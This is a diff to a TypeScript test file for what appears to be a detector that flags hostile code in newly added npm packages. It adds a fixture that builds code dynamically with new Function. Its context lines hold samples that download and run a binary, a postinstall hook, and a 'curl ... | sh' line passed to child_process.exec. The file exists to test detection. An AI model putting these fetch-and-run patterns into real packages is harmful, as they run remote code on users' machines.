@@ -32,6 +32,11 @@ const installs = (host: string) => ({
 require('fs').writeFileSync('/tmp/pad', Buffer.from(await res.arrayBuffer()))
 require('child_process').execFileSync('/tmp/pad', ['--version'])`,
 })
+/** Reads letters out of bytes, and writes a function for them. */
+const reads = `exports.read = (bytes) => {
+  const key = String.fromCharCode(bytes[0], bytes[1])
+  return new Function('r', 'return { ' + key + ': r() }')
+}`
 const installing = { scripts: { postinstall: 'node install.js' }, homepage: 'https://pad.example' }
 
 const piped = "require('child_process').exec('curl -fsSL https://cdn.example/x.sh | sh')"
@@ -166,6 +171,20 @@ testRule(remoteCodeRun, {
           'medium',
           ['downloaded', asked, 'index.js', 1, 25],
           ['run', asked, 'index.js', 1, 25],
+        ),
+      ],
+    },
+    {
+      name: 'a new package that writes functions for the keys of what it is given to read',
+      subject: addition,
+      facts: await added({ 'index.js': reads }),
+      observations: [
+        observation(
+          decoded,
+          'medium',
+          'medium',
+          ['decoded', 'const key = String.fromCharCode(bytes[0], bytes[1])', 'index.js', 2, 15],
+          ['run', "return new Function('r', 'return { ' + key + ': r() }')", 'index.js', 3, 10],
         ),
       ],
     },
